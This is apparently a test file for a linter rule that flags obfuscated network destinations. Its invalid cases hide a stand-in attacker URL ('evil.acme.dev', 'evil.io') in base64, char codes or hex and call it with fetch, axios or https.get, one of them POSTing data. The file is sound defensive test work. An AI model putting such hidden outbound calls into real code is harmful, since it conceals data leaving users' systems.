import rule from '../../src/rules/no-obfuscated-code.ts';
import { ruleTester } from '../tester.ts';

await ruleTester(rule, {
  valid: [
    'export const get = (address) => fetch(atob(address));',
    'fetch("https://api.acme.dev/x?d=" + encodeURIComponent(atob("YWJj")));',
    'fetch(decodeURIComponent("https%3A%2F%2Fapi.acme.dev%2Fx"));',
    'const alphabet = [65, 66, 67].map((code) => String.fromCharCode(code)).join(""); fetch("https://api.acme.dev/" + alphabet);',
    'const local = atob("aHR0cDovL2xvY2FsaG9zdDozMDAwL2E="); fetch(local);',
    'const header = Buffer.from("eyJhbGciOiJIUzI1NiJ9", "base64").toString(); fetch("https://api.acme.dev/x", { method: "POST", body: header });',
  ].map((code) => ({ code })),
  invalid: [
    'const address = atob("aHR0cHM6Ly9ldmlsLmFjbWUuZGV2L2M="); fetch(address, { method: "POST", body: "x" });',
    'const axios = require("axios"); axios.get(Buffer.from("aHR0cHM6Ly9ldmlsLmFjbWUuZGV2L2M=", "base64").toString() + "/x");',
    'const s = [104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 46, 105, 111].map((c) => String.fromCharCode(c)).join(""); fetch(s);',
    'const KEPT = "aHR0cHM6Ly9ldmlsLmFjbWUuZGV2L2M="; export class A { url = atob(KEPT); go() { return fetch(this.url); } }',
    'require("https").get(Buffer.from("68747470733a2f2f6576696c2e696f", "hex").toString());',
  ].map((code) => ({ code, errors: [{ messageId: 'address' }] })),
});
